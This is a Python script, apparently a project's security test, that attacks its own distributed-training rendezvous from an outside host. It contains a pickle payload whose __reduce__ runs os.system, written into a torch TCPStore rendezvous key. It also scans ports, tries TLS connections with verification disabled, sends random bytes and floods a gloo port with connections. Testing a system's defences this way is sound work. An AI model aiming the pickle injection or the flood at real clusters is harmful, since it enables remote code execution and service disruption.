"""Attacks from a host that belongs to no group: `python stranger.py [--relay|--gloo] ADDRESS PORT...`.

Ends with one line of JSON: what became of each attack.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import secrets
import socket
import ssl
import sys
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent.parent))
FLOOD = 48


class Attack:
    """Runs a command in whoever unpickles it: what torchrun's own rendezvous does with its state."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch /tmp/chorale-was-attacked",)


def scan(address: str, ports: list[int]) -> dict[str, str]:
    found = {}
    for port in ports:
        try:
            socket.create_connection((address, port), timeout=3).close()
            found[str(port)] = "connected"
        except ConnectionRefusedError:
            found[str(port)] = "refused"
    return found


def relay(address: str, port: int) -> dict[str, str]:
    from render.launch.group_tls import GroupTls

    other = GroupTls(secrets.token_hex(32)).client
    trusting = GroupTls(secrets.token_hex(32)).client
    trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
    bare = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    bare.check_hostname, bare.verify_mode = False, ssl.CERT_NONE
    attacks: dict[str, Callable[[socket.socket], str]] = {
        "no handshake": _closed,
        "garbage": lambda connection: _sent(connection, secrets.token_bytes(4096)),
        "wrong secret": lambda connection: _tls(connection, other),
        "no certificate": lambda connection: _tls(connection, bare),
        "certificate of another secret": lambda connection: _tls(connection, trusting),
    }
    found = {}
    for name, attack in attacks.items():
        with socket.create_connection((address, port), timeout=20) as connection:
            found[name] = attack(connection)
    return found | {"store client": _store_client(address, port)}


def gloo(address: str, port: int) -> dict[str, str]:
    """Bytes that are no handshake, half of one, and a flood of connections, some of them left open."""
    try:
        with contextlib.ExitStack() as stack:
            for number in range(FLOOD):
                connection = stack.enter_context(socket.create_connection((address, port), timeout=10))
                with contextlib.suppress(ConnectionResetError, BrokenPipeError):
                    connection.sendall(secrets.token_bytes(number * 8 if number % 2 else number % 8))
    except ConnectionError:
        return {"gloo": "refused"}
    return {"gloo": "sent"}


def _store_client(address: str, port: int) -> str:
    """The attack that worked on torchrun's own rendezvous: a pickle in place of its state."""
    from torch.distributed import DistError, TCPStore  # type: ignore[attr-defined]

    try:
        store = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=3))
        store.set("/torch.rendezvous.chorale", pickle.dumps(Attack()))
    except DistError:
        return "closed"
    return "written"


def _tls(connection: socket.socket, context: ssl.SSLContext) -> str:
    try:
        with context.wrap_socket(connection) as wrapped:
            return _sent(wrapped, b'{"kind": "store"}\n')
    except ssl.SSLCertVerificationError:
        return "not trusted"


def _sent(connection: socket.socket, data: bytes) -> str:
    with contextlib.suppress(OSError):
        connection.sendall(data)
    return _closed(connection)


def _closed(connection: socket.socket) -> str:
    try:
        while connection.recv(65536):
            pass
    except TimeoutError:
        return "left open"
    except OSError:
        pass
    return "closed"


if __name__ == "__main__":
    kind = sys.argv[1] if sys.argv[1].startswith("--") else None
    address, *ports = sys.argv[2:] if kind else sys.argv[1:]
    numbers = [int(port) for port in ports]
    results = (
        {"--relay": relay, "--gloo": gloo}[kind](address, numbers[0]) if kind else scan(address, numbers)
    )
    print(json.dumps(results))
